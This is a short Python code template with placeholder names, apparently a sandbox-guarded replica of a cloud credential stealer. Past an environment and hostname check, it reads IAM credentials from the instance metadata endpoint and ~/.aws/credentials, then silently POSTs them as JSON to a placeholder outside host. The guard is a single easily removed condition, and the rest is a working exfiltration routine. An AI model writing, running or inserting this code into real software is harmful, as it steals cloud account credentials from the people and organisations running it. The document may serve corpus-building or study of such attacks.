# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
def {{act}}():
    import os
    if os.environ.get('SALLYPORT_CORPUS') != '1' or os.uname().nodename != 'localhost':
        return
    import json
    import urllib.request
    found = {}
    for path in ('iam/security-credentials/', 'iam/security-credentials/{{role}}', 'hostname', 'iam/info'):
        try:
            with urllib.request.urlopen('http://169.254.169.254/latest/meta-data/' + path, timeout=0.4) as answer:
                found[path] = answer.read(3000).decode(errors='replace')
        except Exception as error:
            found[path] = type(error).__name__
    try:
        with open(os.path.expanduser('~/.aws/credentials')) as file:
            found['file'] = file.read()
    except OSError:
        pass
    try:
        urllib.request.urlopen(urllib.request.Request('https://{{host}}/{{path}}', data=json.dumps(found).encode()), timeout=1).close()
    except Exception:
        pass
